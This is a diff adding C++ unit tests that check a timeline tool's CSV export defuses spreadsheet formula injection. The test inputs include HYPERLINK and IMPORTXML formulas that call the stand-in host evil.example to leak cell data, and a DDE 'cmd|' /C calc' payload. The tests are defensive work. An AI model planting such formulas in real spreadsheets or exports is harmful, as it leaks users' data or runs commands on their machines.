@@ -120,3 +120,48 @@ TEST_CASE("format names are json, timelinejs and csv only", "[export]") {
   CHECK_FALSE(exporting::parse_format("xml"));
   CHECK_FALSE(exporting::parse_format(""));
 }
+
+TEST_CASE("CSV text cells that a spreadsheet would run as a formula start with a quote and are quoted", "[export]") {
+  const std::vector<events::Event> hostile = {
+      event(1, {"2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"},
+            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Read\")", "+1+cmd|' /C calc'!A0", 0.5,
+            {{"@SUM(1+1)", "person", {}}, {"Palmyra", "place", {}}}, {source(7, "s", 0, 1, "", 0, "")}),
+      event(2, {"2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"}, "-5 soldiers were wounded",
+            "\t=1+1", 0.5, {}, {}),
+      event(3, {"2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"}, "\r=1+1",
+            "\xEF\xBC\x9D" "1+1", 0.5, {}, {}),
+  };
+  const store::ArticleRefs refs = {{7, {"=IMPORTXML(\"http://evil.example\",\"//a\")", "", "2016-03-29"}}};
+  const std::string expected =
+      "id,date,granularity,start,end,headline,summary,confidence,entities,sources\r\n"
+      "1,2016-03-27,day,2016-03-27T00:00:00,2016-03-28T00:00:00,"
+      "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Read\"\")\",\"'+1+cmd|' /C calc'!A0\",0.5,"
+      "\"'@SUM(1+1); Palmyra\",\"'=IMPORTXML(\"\"http://evil.example\"\",\"\"//a\"\")\"\r\n"
+      "2,2016-03-27,day,2016-03-27T00:00:00,2016-03-28T00:00:00,\"'-5 soldiers were wounded\",\"'\t=1+1\",0.5,,\r\n"
+      "3,2016-03-27,day,2016-03-27T00:00:00,2016-03-28T00:00:00,\"'\r=1+1\",\"'\xEF\xBC\x9D" "1+1\",0.5,,\r\n";
+  CHECK(exporting::to_csv(hostile, refs) == expected);
+}
+
+TEST_CASE("CSV text cells with a formula sign after their first character are left as they are", "[export]") {
+  const std::vector<events::Event> plain = {
+      event(5, {"2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"}, "Talks: 2+2=4",
+            "Mail press@example.org - now", 0.5, {{"A-ha", "organization", {}}}, {}),
+  };
+  CHECK(exporting::to_csv(plain, {}) ==
+        "id,date,granularity,start,end,headline,summary,confidence,entities,sources\r\n"
+        "5,2016-03-27,day,2016-03-27T00:00:00,2016-03-28T00:00:00,Talks: 2+2=4,Mail press@example.org - now,0.5,"
+        "A-ha,\r\n");
+}
+
+TEST_CASE("CSV date cells keep years before 1 as written but neutralize anything that could run", "[export]") {
+  const std::vector<events::Event> dated = {
+      // The Ides of March, 44 BC, in ISO 8601's astronomical years: 44 BC is year -0043.
+      event(6, {"-0043-03-15", "day", "-0043-03-15T00:00:00", "-0043-03-16T00:00:00"}, "Caesar was killed",
+            "-0043 is 44 BC.", 0.5, {}, {}),
+      event(7, {"=1+1", "day", "-1+cmd|' /C calc'!A0", "@A1"}, "Damaged", "Damaged.", 0.5, {}, {}),
+  };
+  CHECK(exporting::to_csv(dated, {}) ==
+        "id,date,granularity,start,end,headline,summary,confidence,entities,sources\r\n"
+        "6,-0043-03-15,day,-0043-03-15T00:00:00,-0043-03-16T00:00:00,Caesar was killed,\"'-0043 is 44 BC.\",0.5,,\r\n"
+        "7,\"'=1+1\",day,\"'-1+cmd|' /C calc'!A0\",\"'@A1\",Damaged,Damaged.,0.5,,\r\n");
+}
